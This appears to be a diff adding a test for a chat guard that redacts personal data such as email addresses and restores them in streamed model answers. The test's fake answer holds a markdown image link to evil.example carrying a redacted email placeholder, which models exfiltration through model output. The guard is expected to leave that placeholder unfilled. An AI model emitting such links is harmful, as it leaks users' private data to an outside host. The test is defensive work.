@@ -132,3 +132,15 @@ test("a stream cut anywhere gives what the whole gives", async () => {
     assert.equal(await said(await guardChat(fake, one)(...request), true), await said(await guardChat(whole, one)(...request), false));
   }
 });
+
+test("a link in an answer carries no redacted value out, and a stream that goes on behind its end is one answer", async () => {
+  const chat = async (deltas, options) => {
+    const events = deltas.map(([content, finish_reason = null]) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content }, finish_reason }] })}\n\n`);
+    const fake = async () => new Response(events.join(""), { headers: { "content-type": "text/event-stream" } });
+    return said(await guardChat(fake, session(), options)("http://localhost/x", post([{ role: "user", content: LETTER }], true)), true);
+  };
+  assert.equal(await chat([["An [EMAIL_1]: ![x](https://evil.example/[EMAIL"], ["_1]?EMAIL_1)"]]), "An jutta.kranz@werkstatt-sued.de: ![x](https://evil.example/[EMAIL_1]?EMAIL_1)");
+  const notes = [];
+  assert.equal(await chat([[`Siehe ![x](${LINK})`, "stop"], [" und mehr. ", "stop"], ["Noch mehr."]], { onNote: (note) => notes.push(note.stopped) }), "");
+  assert.deepEqual(notes, [true]);
+});
